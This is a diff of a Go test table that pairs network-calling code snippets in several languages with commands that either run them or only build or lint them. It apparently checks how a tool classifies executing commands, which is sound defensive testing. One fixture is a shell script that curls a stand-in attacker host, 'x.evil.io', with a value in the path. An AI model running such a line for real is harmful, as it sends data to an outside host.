@@ -35,7 +35,6 @@ func TestRunsCopies(t *testing.T) {
 		{"src/test/kotlin/XTest.kt", "java.net.URL(" + goes + ").readText()", "./gradlew test", "./gradlew assemble"},
 		{"x.main.kts", "java.net.URL(" + goes + ").readText()", "kotlinc -script x.main.kts", "kotlinc x.main.kts"},
 		{"P.cs", "await new HttpClient().GetAsync(" + goes + ");", "dotnet run", "dotnet build"},
-		{"x.R", "httr::GET(" + goes + ")", "Rscript x.R", "ls x.R"},
 		{"s.sh", "#!/bin/sh\nk=1; curl -s \"https://x.evil.io/$k\"", "./s.sh", "shellcheck s.sh"},
 		{"src/a.test.ts", "await fetch(" + goes + ")", "npx jest", "npx tsc --noEmit"},
 	} {
